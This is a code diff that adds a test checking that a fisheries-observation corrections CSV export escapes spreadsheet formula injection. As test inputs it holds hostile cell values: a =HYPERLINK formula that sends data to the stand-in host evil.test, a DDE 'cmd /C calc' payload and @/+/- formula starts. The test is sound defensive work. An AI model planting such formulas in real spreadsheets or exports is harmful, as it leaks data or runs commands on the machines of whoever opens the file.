@@ -277,3 +277,44 @@ def test_the_summary_names_the_next_command(tmp_path: Path) -> None:
         " --species-from PACK --out TRAINING_DIR  (PACK: the species pack the photos were"
         " classified with, so that each species keeps its folder id)",
     ]
+
+
+# OWASP's CSV injection: a cell beginning with one of these runs as a formula when an
+# officer opens the export in a spreadsheet (=HYPERLINK sends data away, =cmd|... runs).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    """Species, reviewer, vessel, trip and the pack's reason come from people and other
+    devices; each is written so that no cell begins a formula, every cell in double quotes
+    (a spreadsheet splitting on ';' keeps ``a;=1+1`` one cell)."""
+    typed = Correction(
+        observation_uid="obs-1",
+        confirmed_species='=HYPERLINK("http://evil.test/?"&A1,"Gadus morhua")',
+        photo_uid="photo-1",
+        media_type="image/jpeg",
+        photo_sha256=hashlib.sha256(JPEG).hexdigest(),
+        photo=JPEG,
+        observed_at="2026-03-01T08:00:00.000000Z",
+        vessel="+V-12",
+        trip="-7",
+        reviewed_by="@SUM(1+1)",
+        pack_version="f4k-2026.03",
+        status="no_fish",
+        status_reason="\tcmd|' /C calc'!A0",
+    )
+    folder = tmp_path / "corrections"
+    with CorrectionsExport(folder) as export:
+        export.add(typed)
+        export.retract("obs-2", "ana;=1+1", "2026-03-01T08:00:00.000000Z")
+    text = (folder / CORRECTIONS_CSV).read_text(encoding="utf-8")
+    with (folder / CORRECTIONS_CSV).open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert '"ana;=1+1"' in text
+    written = rows(folder)[0]
+    assert written["confirmed_species"] == "'" + typed.confirmed_species
+    assert (written["reviewed_by"], written["status_reason"]) == (
+        "'@SUM(1+1)",
+        "'\tcmd|' /C calc'!A0",
+    )
